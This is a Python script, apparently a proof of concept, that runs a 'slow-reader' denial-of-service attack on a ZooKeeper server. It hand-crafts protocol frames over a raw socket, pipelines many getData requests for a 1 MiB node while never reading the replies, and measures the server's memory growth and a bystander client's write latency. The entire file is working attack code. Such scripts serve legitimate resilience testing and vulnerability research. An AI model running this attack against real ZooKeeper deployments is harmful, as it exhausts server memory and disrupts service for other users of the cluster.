"""Slow-reader attack on a ZooKeeper face: pipeline N getData of a 1 MiB node, never read.
Prints the target node's RSS before and after, and a bystander's write latency meanwhile."""
import socket, struct, sys, time
from kazoo.client import KazooClient

host, port, rss_pid, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])

def rss_mib(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024

zk = KazooClient(hosts=f"{host}:{port}", timeout=10)
zk.start()
if not zk.exists("/big"):
    zk.create("/big", b"x" * (1024 * 1024 - 1))
print(f"rss before: {rss_mib(rss_pid):.0f} MiB")

s = socket.create_connection((host, port))
connect = struct.pack(">iqi", 0, 0, 30000) + struct.pack(">q", 0) + struct.pack(">i", 16) + b"\0" * 16 + b"\0"
s.sendall(struct.pack(">i", len(connect)) + connect)
length = struct.unpack(">i", s.recv(4))[0]
while length > 0:
    length -= len(s.recv(length))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
path = b"/big"
body = struct.pack(">ii", 0, 4) + struct.pack(">i", len(path)) + path + b"\0"
frames = b""
for xid in range(1, n + 1):
    request = struct.pack(">i", xid) + body
    frames += struct.pack(">i", len(request)) + request
s.setblocking(False)
sent = 0
deadline = time.time() + 5
while sent < len(frames) and time.time() < deadline:
    try:
        sent += s.send(frames[sent:])
    except BlockingIOError:
        time.sleep(0.01)
print(f"sent {sent} of {len(frames)} request bytes ({n} getData of 1 MiB)")
time.sleep(3)
started = time.time()
for i in range(20):
    zk.set("/big", b"y" * 100) if False else zk.create(f"/bystander-{time.time_ns()}", b"")
print(f"bystander: 20 creates in {(time.time() - started) * 1000:.0f} ms")
print(f"rss during: {rss_mib(rss_pid):.0f} MiB")
s.close()
zk.stop()
